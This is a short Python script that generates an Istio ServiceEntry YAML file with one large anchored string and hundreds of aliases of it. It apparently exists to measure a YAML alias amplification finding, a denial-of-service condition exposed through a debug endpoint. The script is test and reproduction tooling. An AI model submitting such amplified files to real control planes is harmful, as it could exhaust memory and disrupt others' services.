#!/usr/bin/env python3
"""Writes a ServiceEntry whose annotations hold one large anchored scalar and many aliases of it.

Used to measure YAML alias amplification (issue 13, finding 8): a file of ~1 MB that expands to
aliases x anchor bytes. Usage: gen-alias-amplification.py OUT.yaml [ANCHOR_BYTES] [ALIASES]
"""
import sys

out = sys.argv[1]
anchor_bytes = int(sys.argv[2]) if len(sys.argv) > 2 else 1024 * 1024
aliases = int(sys.argv[3]) if len(sys.argv) > 3 else 500

with open(out, "w") as f:
    # subjectAltNames, because /debug/configz prints the spec (annotations it leaves out).
    f.write("apiVersion: networking.istio.io/v1\nkind: ServiceEntry\nmetadata:\n  name: amplified\n  namespace: default\n")
    f.write("spec:\n  hosts: [amplified.example]\n  ports: [{number: 80, name: http, protocol: HTTP}]\n  resolution: DNS\n  subjectAltNames:\n")
    f.write(f'  - &big "{"x" * anchor_bytes}"\n')
    for i in range(aliases):
        f.write("  - *big\n")
